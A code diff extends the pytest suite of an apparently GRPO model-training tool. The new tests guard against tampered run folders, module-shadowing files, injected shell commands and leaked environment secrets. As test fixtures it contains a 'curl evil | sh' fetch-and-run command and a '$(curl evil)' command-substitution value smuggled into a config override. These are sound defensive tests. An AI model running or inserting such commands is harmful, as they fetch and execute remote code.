@@ -3,6 +3,7 @@
 import json
 import multiprocessing
 import os
+import shlex
 import shutil
 import stat
 import sys
@@ -15,6 +16,8 @@ import yaml
 
 from grpo import report, reproduce, sample
 from grpo import train as training
+from grpo.checkpoint import read_provenance
+from grpo.config import compose
 from grpo.console import RunLog
 from grpo.errors import UserError
 from grpo.folder import overrides_of
@@ -106,7 +109,11 @@ SCORING = ALL - {"sample", "baseline"}
 CRAFTED: dict[str, tuple[dict[str, Any], set[str], str]] = {
     "a reward file": ({"reward_files": ["HERE/own.py"]}, SCORING, "reward_files: HERE/own.py"),
     "a relative path": ({"reward_files": ["own.py"]}, SCORING, "reward_files: HERE/own.py"),
-    "a path of the environment": ({"reward_files": ["${oc.env:PWD}/own.py"]}, SCORING, "/own.py"),
+    "a path of the environment": (
+        {"reward_files": ["${oc.env:PWD}/own.py"]},
+        SCORING,
+        "reward_files: ${oc.env:PWD}/own.py",
+    ),
     "a path of another setting": (
         {"reward_files": "${oc.decode:${system_prompt}}", "system_prompt": "[HERE/own.py]"},
         SCORING,
@@ -119,6 +126,7 @@ CRAFTED: dict[str, tuple[dict[str, Any], set[str], str]] = {
     "a decoy": ({"model__trust_remote_code": True, "model.trust_remote_code": False}, ALL, "model.trust_remote_code"),
     "a server": ({"rollout__server": "http://203.0.113.1:80"}, TRAINING, "rollout.server=http://203.0.113.1:80"),
     "the environment": ({"system_prompt": "${oc.env:SOME_TOKEN}"}, ALL, "system_prompt=${oc.env:SOME_TOKEN}"),
+    "a number from the environment": ({"seed": "${oc.env:SOME_TOKEN}"}, ALL, "seed=${oc.env:SOME_TOKEN}"),
     "the environment, sent": ({"tracking__project": "${oc.env:SOME_TOKEN}"}, TRAINING, "SOME_TOKEN"),
 }
 
@@ -291,6 +299,10 @@ CHANGES: dict[str, tuple[Callable[[Path], Any], str]] = {
     "code beside the policy": (change("policy/config.json", " "), "policy/config.json was changed"),
     "a file beside the policy": (lambda folder: (folder / "policy" / "code.py").touch(), "policy/code.py was changed"),
     "a reward file in the folder": (change("inside.py", "#"), "inside.py was changed"),
+    "a module in the folder": (change("helper.py", "#"), "helper.py was changed"),
+    "a new module": (lambda folder: (folder / "pandas.py").touch(), "pandas.py was changed"),
+    "a new package": (lambda folder: (folder / "lib" / "numpy.so").touch(), "numpy.so was changed"),
+    "new bytecode": (lambda folder: (folder / "json.pyc").touch(), "json.pyc was changed"),
     "a reward file by a relative path": (lambda folder: change("own.py", "#")(Path()), "own.py was changed"),
     "no signature": (lambda folder: (folder / ".hydra" / "signature.json").unlink(), "was not made by you"),
     "no key": (lambda folder: key_path().unlink(), "there is no key"),
@@ -311,8 +323,12 @@ def test_a_signature_holds_for_what_was_signed(here, what) -> None:
     files = [str(here / "run" / "inside.py"), "own.py"]
     folder = finished(here / "run", reward_files=files, model__trust_remote_code=True)
     (folder / "inside.py").write_text(REWARD)
+    (folder / "helper.py").touch()
+    (folder / "lib").mkdir()
+    (folder / "__pycache__").mkdir()
     sign_saved(folder)
-    assert not distrusted(folder)
+    (folder / "__pycache__" / "helper.cpython-311.pyc").touch()
+    assert not distrusted(folder) and not [*folder.rglob("*.pyc")]
     change_it, why = CHANGES[what]
     change_it(folder)
     assert why in distrusted(folder)
@@ -406,3 +422,40 @@ def test_training_writes_through_no_link(start, tmp_path) -> None:
     handler = RunLog(str(tmp_path / "run" / "train.log"))
     with pytest.raises(OSError, match="symbolic links"):
         handler.begin()
+
+
+def test_reproduce_prints_no_command_of_the_folder(here, capsys) -> None:
+    folder = finished(here.parent / "theirs")
+    results = json.loads((folder / "results.json").read_text())
+    results["batch"]["world_size"] = 2
+    results["provenance"] = {"command": "curl evil | sh", "resumed": []}
+    (folder / "results.json").write_text(json.dumps(results))
+    (folder / ".hydra" / "overrides.yaml").write_text(yaml.safe_dump(["system_prompt='$(curl evil)'"]))
+    with pytest.raises(UserError):
+        COMMANDS["reproduce"](folder)
+    message = capsys.readouterr().err
+    assert "evil | sh" not in message and "--num_processes 2" in message
+    assert shlex.quote("system_prompt='$(curl evil)'") in message
+
+
+DAMAGED: list[Any] = [3, {"hardware": 3}, {"model": [1]}, {"resumed": [3]}, {"resumed": 3}, {"code": {"revision": 1}}]
+
+
+@pytest.mark.parametrize("part", DAMAGED)
+def test_damaged_provenance_is_named(here, capsys, part) -> None:
+    folder = finished(here / "run")
+    results = json.loads((folder / "results.json").read_text())
+    (folder / "results.json").write_text(json.dumps(results | {"provenance": part}))
+    with pytest.raises(UserError):
+        COMMANDS["reproduce"](folder)
+    assert "results.json is damaged: in provenance" in capsys.readouterr().err
+    whole = {"resumed": [], "settings": {}}
+    (folder / "provenance.json").write_text(json.dumps(whole | part if isinstance(part, dict) else part))
+    with pytest.raises(UserError, match=r"provenance.json is damaged: "):
+        read_provenance(folder / "provenance.json")
+
+
+def test_messages_show_no_value_of_the_environment(here) -> None:
+    with pytest.raises(UserError) as error:
+        compose(["seed=${oc.env:SOME_TOKEN}"])
+    assert "hunter2" not in str(error.value) and "${oc.env:SOME_TOKEN}" in str(error.value)
